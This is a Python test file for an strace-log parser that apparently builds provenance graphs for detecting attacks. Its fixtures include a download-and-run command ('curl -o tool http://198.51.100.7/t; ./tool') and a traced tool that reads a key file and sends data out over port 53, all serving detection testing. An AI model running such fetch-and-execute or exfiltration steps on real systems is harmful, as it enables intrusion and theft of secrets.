# ruff: noqa: E501  (tables of edges)
"""strace: whole rows, edges, accounting, and a line that can be written again from its row."""

import csv
import gzip
import importlib.util
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import duckdb
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from graphad.decoders.strace_decode import rebuild
from graphad.decoders.strace_text import command_line, unescape
from graphad.parse import Decoded, Options, Parser
from tests.captures import unpacked

ROOT = Path(__file__).parents[2]
SAMPLES = ROOT / "sample_logs/strace"
DEMO = ROOT / "sample_logs/demo"
NAMED, PLAIN = ((SAMPLES / f"{name}.strace").read_bytes() for name in ("named", "plain"))


def load() -> Parser:
    spec = importlib.util.spec_from_file_location("strace_parser", ROOT / "parsers/strace.py")
    assert spec
    assert spec.loader
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    parser: Parser = module.parser
    return parser


PARSER = load()


def decode(data: bytes) -> Decoded:
    return PARSER.decoder(Options()).decode(data, True)


def query(done: Decoded, sql: str) -> list[tuple[Any, ...]]:
    with duckdb.connect() as db:
        db.register("raw", done.raw)
        mapped = f"WITH edges AS ({PARSER.mapping}) {sql}"
        return db.execute(mapped).fetchall()


def edges(done: Decoded) -> list[str]:
    """Return the edges as lines; stamps are microseconds into the 100 seconds."""
    found = query(done, "SELECT * FROM edges ORDER BY record, ordinal")
    names = [
        "record",
        "ts",
        "host",
        "ordinal",
        "action",
        "st",
        "sk",
        "sl",
        "sd",
        "dt",
        "dk",
        "dl",
        "dd",
    ]
    lines = []
    for row in found:
        edge = dict(zip(names, row, strict=True))
        at = round((edge["ts"] - datetime(1970, 1, 1)).total_seconds() * 1e6) % 100_000_000
        lines.append(
            f"{edge['record'] + 1} {at} {edge['st']} {edge['sk']} ({edge['sl']}) {edge['action']} "
            f"{edge['dt']} {edge['dk']} ({edge['dl']}) {edge['dd'] or ''}".rstrip()
        )
    return lines


def rules(done: Decoded) -> dict[int, str]:
    found = query(
        done, f"SELECT record, {PARSER.ignore} FROM raw WHERE {PARSER.ignore} IS NOT NULL"
    )
    return {record + 1: rule for record, rule in found}


def check_accounting(data: bytes, done: Decoded) -> None:
    """Assert that each line is in one place, and can be written again if it is in a row."""
    lines = data.split(b"\n")
    if lines[-1] == b"":
        lines.pop()
    assert done.read == len(lines)
    assert done.read == done.raw.num_rows + done.rejects.num_rows + sum(done.ignored.values())
    used = {row[0] for row in query(done, "SELECT DISTINCT record FROM edges")}
    ignored = {record - 1 for record in rules(done)}
    assert not used & ignored
    assert used | ignored == set(done.raw["record"].to_pylist())
    for row in [*done.raw.drop_columns(["_edges"]).to_pylist(), *done.rejects.to_pylist()]:
        line = data[row["offset"] : row["offset"] + row["length"]]
        assert line == lines[row["line"]]
        assert row["line"] == row["record"]
        if "reason" not in row:
            assert rebuild(row) == line.decode("utf-8", "backslashreplace")


NAMED_RULES = {
    2: "call without information flow", 3: "failed call",
    4: "unfinished, joined to its resumption", 5: "unfinished, joined to its resumption",
    7: "unfinished, joined to its resumption", 15: "call without information flow",
    16: "end of a process", 17: "call without information flow", 18: "signal without a sender",
    20: "call without information flow", 30: "end of a process", 31: "failed call",
    32: "call without information flow", 34: "detached",
}  # fmt: skip
PLAIN_RULES = {
    2: "call without information flow", 3: "call without information flow",
    7: "call without information flow", 8: "call without information flow",
    9: "call without information flow", 10: "call without information flow",
    12: "message of strace", 15: "failed call", 17: "unknown descriptor", 18: "end of a process",
    21: "call without information flow", 22: "call without information flow",
    25: "resumed, its beginning is missing",
}  # fmt: skip
NAMED_EDGES = r"""
1 100 file /bin/sh (/bin/sh) exec process 700:1772445600000100:1 (/bin/sh) sh -c 'curl -o tool http://198.51.100.7/t; ./tool'
6 1200 process 700:1772445600000100:1 (/bin/sh) fork process 701:1772445600001200 (/bin/sh) sh -c 'curl -o tool http://198.51.100.7/t; ./tool'
8 1300 file /usr/bin/curl (/usr/bin/curl) exec process 701:1772445600001200:1 (/usr/bin/curl) curl -o tool http://198.51.100.7/t
8 1300 process 700:1772445600000100:1 (/bin/sh) launch process 701:1772445600001200:1 (/usr/bin/curl) curl -o tool http://198.51.100.7/t
9 2400 file /usr/lib/x86_64-linux-gnu/libc.so.6 (/usr/lib/x86_64-linux-gnu/libc.so.6) load process 701:1772445600001200:1 (/usr/bin/curl) curl -o tool http://198.51.100.7/t
10 2600 process 701:1772445600001200:1 (/usr/bin/curl) connect socket 198.51.100.7:80 (198.51.100.7:80)
11 3012 socket 198.51.100.7:80 (198.51.100.7:80) receive process 701:1772445600001200:1 (/usr/bin/curl) curl -o tool http://198.51.100.7/t
12 3100 process 701:1772445600001200:1 (/usr/bin/curl) create file /srv/shop/tool (/srv/shop/tool)
13 3200 process 701:1772445600001200:1 (/usr/bin/curl) write file /srv/shop/tool (/srv/shop/tool)
14 3300 process 701:1772445600001200:1 (/usr/bin/curl) write file /dev/null (/dev/null)
19 3800 process 700:1772445600000100:1 (/bin/sh) chmod file /srv/shop/tool (/srv/shop/tool)
21 4000 process 700:1772445600000100:1 (/bin/sh) fork process 702:1772445600004000 (/bin/sh) sh -c 'curl -o tool http://198.51.100.7/t; ./tool'
22 4100 file /srv/shop/tool (/srv/shop/tool) exec process 702:1772445600004000:1 (/srv/shop/tool) ./tool
22 4100 process 700:1772445600000100:1 (/bin/sh) launch process 702:1772445600004000:1 (/srv/shop/tool) ./tool
23 4510 file /srv/shop/etc/key > "x" (/srv/shop/etc/key > "x") read process 702:1772445600004000:1 (/srv/shop/tool) ./tool
24 4600 process 702:1772445600004000:1 (/srv/shop/tool) send socket 203.0.113.9:53 (203.0.113.9:53)
25 4700 process 702:1772445600004000:1 (/srv/shop/tool) write pipe pipe:[8305] (pipe)
26 4804 pipe pipe:[8305] (pipe) read process 700:1772445600000100:1 (/bin/sh) sh -c 'curl -o tool http://198.51.100.7/t; ./tool'
27 4900 file /srv/shop/log (/srv/shop/log) rename file /srv/shop/log.1 (/srv/shop/log.1)
27 4900 process 700:1772445600000100:1 (/bin/sh) rename file /srv/shop/log.1 (/srv/shop/log.1)
28 5000 process 700:1772445600000100:1 (/bin/sh) signal process 702:1772445600004000:1 (/srv/shop/tool) ./tool
29 5100 process 700:1772445600000100:1 (/bin/sh) signal process 702:1772445600004000:1 (/srv/shop/tool) ./tool
33 5500 process 700:1772445600000100:1 (/bin/sh) delete file /srv/shop/tool (/srv/shop/tool)
"""
PLAIN_EDGES = r"""
1 1000100 file /usr/sbin/shopd (/usr/sbin/shopd) exec process 0:1772445601000100:1 (/usr/sbin/shopd) shopd --listen
4 1000400 process 0:1772445601000100:1 (/usr/sbin/shopd) bind socket 192.0.2.4:8080 (192.0.2.4:8080)
5 1000500 socket 198.51.100.9:40112 (198.51.100.9:40112) accept process 0:1772445601000100:1 (/usr/sbin/shopd) shopd --listen
6 1000600 socket 198.51.100.9:40112 (198.51.100.9:40112) receive process 0:1772445601000100:1 (/usr/sbin/shopd) shopd --listen
11 1001100 process 0:1772445601000100:1 (/usr/sbin/shopd) fork process 812:1772445601001100 (/usr/sbin/shopd) shopd --listen
13 1001200 file /usr/bin/sort (/usr/bin/sort) exec process 812:1772445601001100:1 (/usr/bin/sort) sort -u
13 1001200 process 0:1772445601000100:1 (/usr/sbin/shopd) launch process 812:1772445601001100:1 (/usr/bin/sort) sort -u
14 1001300 file /srv/shop/items.csv (/srv/shop/items.csv) read process 812:1772445601001100:1 (/usr/bin/sort) sort -u
16 1001500 process 812:1772445601001100:1 (/usr/bin/sort) write pipe pipe:[0:1772445601001000:6] (pipe)
19 1001800 pipe pipe:[0:1772445601001000:6] (pipe) read process 0:1772445601000100:1 (/usr/sbin/shopd) shopd --listen
20 1001900 file /srv/shop/items.csv (/srv/shop/items.csv) read process 0:1772445601000100:1 (/usr/sbin/shopd) shopd --listen
20 1001900 process 0:1772445601000100:1 (/usr/sbin/shopd) send socket 198.51.100.9:40112 (198.51.100.9:40112)
23 1002200 file /srv/shop/pub/items.csv (/srv/shop/pub/items.csv) link file /srv/shop/pub/latest (/srv/shop/pub/latest)
23 1002200 process 0:1772445601000100:1 (/usr/sbin/shopd) create file /srv/shop/pub/latest (/srv/shop/pub/latest)
24 1002300 process 0:1772445601000100:1 (/usr/sbin/shopd) inject process 77:1772445601002300 (unknown)
"""


@pytest.mark.parametrize(
    ("data", "expected", "ignored"),
    [(NAMED, NAMED_EDGES, NAMED_RULES), (PLAIN, PLAIN_EDGES, PLAIN_RULES)],
)
def test_edges_of_the_samples(data: bytes, expected: str, ignored: dict[int, str]) -> None:
    done = decode(data)
    assert edges(done) == expected.strip().splitlines()
    assert rules(done) == ignored
    check_accounting(data, done)


def test_rejects_of_the_samples() -> None:
    assert decode(NAMED).rejects.num_rows == 0
    assert decode(PLAIN).rejects.to_pylist() == [
        {"record": 25, "offset": 1626, "length": 35, "line": 25,
         "reason": "time of day without a date: record with strace -ttt"},
        {"record": 26, "offset": 1662, "length": 68, "line": 26,
         "reason": "what follows the time stamp is no call, signal or end of a process"},
        {"record": 27, "offset": 1731, "length": 31, "line": 27,
         "reason": "no time stamp as strace -ttt writes it"},
    ]  # fmt: skip


def test_whole_rows() -> None:
    rows = decode(NAMED).raw.drop_columns(["_edges"]).to_pylist()
    nothing = dict.fromkeys(rows[0])
    assert rows[7] == nothing | {
        "record": 7, "offset": 757, "length": 60, "line": 7,
        "ts": datetime(2026, 3, 2, 10, 0, 0, 1900), "host": "localhost",
        "shape": "{pid}   {ts} <... {syscall} resumed>{args}) = {result} <{duration}>",
        "process_guid": "701:1772445600001200", "pid": 701, "exe": "/bin/sh", "syscall": "execve",
        "args": "", "result": "0", "duration": 0.0006, "begun": 5,
    }  # fmt: skip
    assert rows[2] == nothing | {
        "record": 2, "offset": 214, "length": 138, "line": 2,
        "ts": datetime(2026, 3, 2, 10, 0, 0, 900), "host": "localhost",
        "shape": "{pid}   {ts} {syscall}({args}) = {result} {error} ({message}) <{duration}>",
        "message": "No such file or directory", "process_guid": "700:1772445600000100:1",
        "pid": 700, "exe": "/bin/sh", "syscall": "openat",
        "args": 'AT_FDCWD</srv/shop>, "/etc/nothing", O_RDONLY|O_CLOEXEC', "result": "-1",
        "error": "ENOENT", "duration": 1.1e-05, "_ignore": "failed call",
    }  # fmt: skip
    assert rows[28] == nothing | {
        "record": 28, "offset": rows[28]["offset"], "length": 97, "line": 28,
        "ts": datetime(2026, 3, 2, 10, 0, 0, 5100), "host": "localhost",
        "shape": "{pid}   {ts} --- {code} {args} ---", "code": "SIGTERM",
        "process_guid": "702:1772445600004000:1", "pid": 702, "exe": "/srv/shop/tool",
        "args": "{si_signo=SIGTERM, si_code=SI_USER, si_pid=700, si_uid=0}",
    }  # fmt: skip


def test_host_is_the_users() -> None:
    done = PARSER.decoder(Options(host="shop")).decode(PLAIN.splitlines()[0], True)
    assert query(done, "SELECT DISTINCT host FROM edges") == [("shop",)]


@pytest.mark.parametrize("data", [NAMED, PLAIN])
def test_blocks_make_no_difference(data: bytes) -> None:
    """Cut anywhere, a log gives the same edges, found in the order of its lines."""
    whole = edges(decode(data))
    lines = data.splitlines(keepends=True)
    for cut in range(1, len(lines)):
        decoder, found = PARSER.decoder(Options()), []
        for first, part in ((0, lines[:cut]), (cut, lines[cut:])):
            for edge in edges(decoder.decode(b"".join(part), first > 0)):
                record, _, rest = edge.partition(" ")
                found.append(f"{int(record) + first} {rest}")
        assert found == whole


def test_cut() -> None:
    decoder = PARSER.decoder(Options())
    assert decoder.cut(b"a\nb\nc", False) == 4
    assert decoder.cut(memoryview(b"a\nb\nc"), False) == 4
    assert decoder.cut(bytearray(b"abc"), False) == 0
    assert decoder.cut(b"a\nb\nc", True) == 5


def line(pid: int, us: int, text: str) -> bytes:
    return f"{pid} 1772445600.{us:06d} {text}\n".encode()


def test_a_reused_pid_is_another_process() -> None:
    data = line(1, 1, 'execve("/bin/sh", ["sh"], 0x1 /* 1 var */) = 0')
    for n in (10, 20):
        data += line(1, n, "fork() = 2")
        data += line(2, n + 1, 'read(3</a>, "x", 1) = 1') + line(2, n + 2, "+++ exited with 0 +++")
    keys = query(decode(data), "SELECT dst_key FROM edges WHERE action = 'read'")
    assert keys == [("2:1772445600000010",), ("2:1772445600000020",)]


def test_a_thread_is_its_process() -> None:
    data = line(1, 1, "clone(child_stack=0x7f, flags=CLONE_VM|CLONE_THREAD) = 2")
    data += line(2, 2, 'read(3</a>, "x", 1) = 1') + line(2, 3, "+++ exited with 0 +++")
    data += line(1, 4, 'read(3</a>, "x", 1) = 1')
    assert query(decode(data), "SELECT DISTINCT dst_key, action FROM edges") == [
        ("1:1772445600000001", "read")
    ]


def test_a_forked_child_that_read_before_it_became_another_program() -> None:
    data = line(1, 1, 'execve("/bin/sh", ["sh"], 0x1 /* 1 var */) = 0') + line(1, 2, "fork() = 2")
    data += line(2, 3, 'read(0</a>, "x", 1) = 1')
    data += line(2, 4, 'execve("/bin/b", ["b"], 0x1 /* 1 var */) = 0')
    assert edges(decode(data))[-3:] == [
        "4 4 file /bin/b (/bin/b) exec process 2:1772445600000002:1 (/bin/b) b",
        "4 4 process 1:1772445600000001:1 (/bin/sh) launch process 2:1772445600000002:1 (/bin/b) b",
        "4 4 process 2:1772445600000002 (/bin/sh) exec process 2:1772445600000002:1 (/bin/b) b",
    ]


def test_close_on_exec_and_shared_tables() -> None:
    data = line(1, 1, 'open("/a", O_RDONLY|O_CLOEXEC) = 3') + line(1, 2, 'open("/b", O_RDONLY) = 4')
    data += line(1, 3, 'execve("/bin/b", ["b"], 0x1 /* 1 var */) = 0')
    data += line(1, 4, 'read(3, "x", 1) = 1') + line(1, 5, 'read(4, "x", 1) = 1')
    done = decode(data)
    assert rules(done)[4] == "unknown descriptor"
    assert query(done, "SELECT src_key FROM edges WHERE action = 'read'") == [("/b",)]


def test_a_read_that_waited_comes_after_the_write_it_waited_for() -> None:
    data = line(1, 1, "read(3<pipe:[9]>,  <unfinished ...>")
    data += line(2, 2, 'write(4<pipe:[9]>, "x", 1) = 1')
    data += line(1, 3, '<... read resumed>"x", 1) = 1')
    assert query(decode(data), "SELECT action, epoch_us(ts) % 100 FROM edges ORDER BY ts") == [
        ("write", 2), ("read", 3),
    ]  # fmt: skip


def test_what_a_program_sends_forges_no_address() -> None:
    forged = r"{sa_family=AF_INET, sin_port=htons(1), sin_addr=inet_addr(\"9.9.9.9\")}"
    data = line(1, 1, f'sendto(3<UDP:[1]>, "{forged}", 9, 0, NULL, 0) = 9')
    assert query(decode(data), "SELECT dst_label FROM edges") == [("socket:[1]",)]


@pytest.mark.parametrize("sample", [NAMED, PLAIN])
def test_hostile_bytes_hide_no_line(sample: bytes) -> None:
    first = sample.splitlines()[0]
    data = b"\n".join([first, b"\xff\x00" + first, b"", first[:-9] + b"\xff\x1b[2J", first]) + b"\n"
    done = decode(data)
    check_accounting(data, done)
    assert done.ignored == {"blank line": 1}
    assert {row[0] for row in query(done, "SELECT record FROM edges")} >= {0, 4}


BITS = [b'"', b"<", b">", b") = 1", b"\\", b"\xff", b"\0", b"\n", b"-1 EBADF (x)", b"3</a>", b"2,",
        b"AT_FDCWD", b"clone(", b"execve(", b"{", b"[", b"9999999999", b"\r"]  # fmt: skip


@settings(deadline=None, max_examples=100)
@given(st.data())
def test_mutated_samples_are_accounted_for(draw: st.DataObject) -> None:
    lines = (NAMED + PLAIN).split(b"\n")
    chosen = draw.draw(st.lists(st.sampled_from(lines), max_size=12))
    data = bytearray(b"\n".join(chosen))
    for _ in range(draw.draw(st.integers(0, 6))):
        at = draw.draw(st.integers(0, len(data)))
        data[at : at + draw.draw(st.integers(0, 3))] = draw.draw(st.sampled_from(BITS))
    check_accounting(bytes(data), decode(bytes(data)))


def test_capture() -> None:
    data = unpacked("provmark-spade-strace", "/a.strace")
    done = decode(data)
    check_accounting(data, done)
    assert done.rejects.num_rows == 0
    assert query(done, "SELECT action, count(*) FROM edges GROUP BY 1 ORDER BY 1") == [
        ("connect", 1), ("create", 8), ("delete", 1), ("exec", 64), ("fork", 44), ("launch", 23),
        ("load", 81), ("read", 1224), ("write", 33),
    ]  # fmt: skip


def test_the_demos_attack_is_a_path_in_time() -> None:
    done = decode(gzip.decompress((DEMO / "attack.strace.gz").read_bytes()))
    path = """
        SELECT a.dst_label, b.dst_label, c.dst_label, d.dst_label, e.dst_label
        FROM edges a JOIN edges b ON b.src_key = a.dst_key AND b.ts > a.ts
        JOIN edges c ON c.src_key = b.dst_key AND c.ts > b.ts
        JOIN edges d ON d.src_key = c.dst_key AND d.ts > c.ts
        JOIN edges e ON e.src_key = d.dst_key AND e.ts > d.ts
        WHERE a.src_label = '/usr/bin/python3' AND a.action = 'launch' AND b.action = 'launch'
          AND c.action = 'write' AND d.action = 'exec' AND e.action = 'connect'"""
    assert query(done, path) == [("/bin/sh", "/usr/bin/curl", "/tmp/x", "/tmp/x", "127.0.0.1:4444")]


def test_the_demos_truth_names_lines_that_give_edges() -> None:
    done = decode(gzip.decompress((DEMO / "attack.strace.gz").read_bytes()))
    with (DEMO / "truth.csv").open(newline="") as file:
        truth = list(csv.DictReader(file))
    assert list(dict.fromkeys(row["label"] for row in truth)) == [
        "request", "shell", "fetch", "make executable", "run tool", "read secret", "exfiltrate",
    ]  # fmt: skip
    used = {row[0] + 1 for row in query(done, "SELECT DISTINCT record FROM edges")}
    assert {int(row["line"]) for row in truth} <= used


def test_sniff() -> None:
    assert PARSER.sniff(NAMED) == 1.0
    assert PARSER.sniff(PLAIN) > 0.8
    assert PARSER.sniff(b'{"EventID": 1, "Image": "read(3) = 1"}\n') == 0.0
    assert PARSER.sniff(b"") == 0.0


def test_texts() -> None:
    assert unescape(rb"\x2fa\57b\\\"\n\t\377") == '/a/b\\"\n\t\\xff'
    assert command_line(rb'"/a", ["a", "b c", "\x64"..., ...], 0x1') == "a 'b c' d... ..."
    assert datetime.fromtimestamp(1772445600, UTC).hour == 10
